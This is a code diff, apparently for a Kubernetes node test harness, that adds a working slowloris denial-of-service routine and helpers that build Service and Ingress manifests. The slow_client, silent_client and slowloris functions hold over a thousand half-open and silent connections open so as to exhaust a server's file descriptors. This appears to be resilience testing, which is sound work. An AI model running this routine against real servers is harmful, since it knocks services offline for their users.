@@ -257,6 +257,83 @@ def raise_own_open_files(at_least: int) -> bool:
     return True
 
 
+# -- slow clients ------------------------------------------------------------------------------
+
+SLOW_CLIENTS = 1_100  # more than a server's 1,024 descriptors
+SILENT_CLIENTS = 200  # TCP connections that never send a byte (nor a TLS ClientHello)
+OPEN_RATE = 400  # new attacker connections per second (slowhttptest's default is 50)
+
+
+async def slow_client(
+    host: str, port: int, tls: ssl.SSLContext | None, stop: asyncio.Event
+) -> None:
+    """Sends a request head one byte every two seconds, and never finishes it."""
+    with contextlib.suppress(OSError, ssl.SSLError, asyncio.IncompleteReadError, TimeoutError):
+        reader, writer = await asyncio.open_connection(host, port, ssl=tls)
+        try:
+            head = b"GET /api/v1/namespaces HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 10_000
+            for byte in head:
+                writer.write(bytes([byte]))
+                await writer.drain()
+                with contextlib.suppress(TimeoutError):
+                    async with asyncio.timeout(2.0):
+                        await stop.wait()
+                if stop.is_set() or reader.at_eof():
+                    return
+        finally:
+            writer.close()
+
+
+async def silent_client(host: str, port: int, stop: asyncio.Event) -> None:
+    with contextlib.suppress(OSError):
+        _, writer = await asyncio.open_connection(host, port)
+        try:
+            await stop.wait()
+        finally:
+            writer.close()
+
+
+async def slowloris(
+    host: str,
+    port: int,
+    tls: ssl.SSLContext | None,
+    stop: asyncio.Event,
+    *,
+    slow: int = SLOW_CLIENTS,
+    silent: int = SILENT_CLIENTS,
+    open_rate: int = OPEN_RATE,
+) -> None:
+    """Keeps ``slow`` slow clients and ``silent`` silent ones connected until ``stop``,
+    reconnecting those the server closes, opening at most ``open_rate`` connections a
+    second."""
+    running: set[asyncio.Task[None]] = set()
+    try:
+        while not stop.is_set():
+            slow_now = sum(1 for t in running if t.get_name() == "slow")
+            silent_now = len(running) - slow_now
+            want = [("slow", slow - slow_now), ("silent", silent - silent_now)]
+            budget = open_rate // 10
+            for kind, missing in want:
+                for _ in range(min(missing, budget)):
+                    coro = (
+                        slow_client(host, port, tls, stop)
+                        if kind == "slow"
+                        else silent_client(host, port, stop)
+                    )
+                    task = asyncio.create_task(coro, name=kind)
+                    running.add(task)
+                    task.add_done_callback(running.discard)
+                    budget -= 1
+            with contextlib.suppress(TimeoutError):
+                async with asyncio.timeout(0.1):
+                    await stop.wait()
+    finally:
+        stop.set()
+        for task in list(running):
+            task.cancel()
+        await asyncio.gather(*running, return_exceptions=True)
+
+
 # -- the node's processes ---------------------------------------------------------------------
 
 
@@ -544,6 +621,37 @@ def deployment(
                 "metadata": {"labels": {"app": name}},
                 "spec": {"terminationGracePeriodSeconds": grace, "containers": [container]},
             },
+        },
+    }
+
+
+def service(name: str) -> dict[str, Any]:
+    """A ClusterIP Service on port 80 over the pods labelled ``app=name``."""
+    return {
+        "apiVersion": "v1",
+        "kind": "Service",
+        "metadata": {"name": name},
+        "spec": {
+            "selector": {"app": name},
+            "ports": [{"name": "http", "port": 80, "targetPort": "http"}],
+        },
+    }
+
+
+def ingress(name: str) -> dict[str, Any]:
+    """An Ingress sending everything for host ``<name>.test`` to Service ``name``."""
+    backend = {"service": {"name": name, "port": {"number": 80}}}
+    return {
+        "apiVersion": "networking.k8s.io/v1",
+        "kind": "Ingress",
+        "metadata": {"name": name},
+        "spec": {
+            "rules": [
+                {
+                    "host": f"{name}.test",
+                    "http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": backend}]},
+                }
+            ]
         },
     }
 
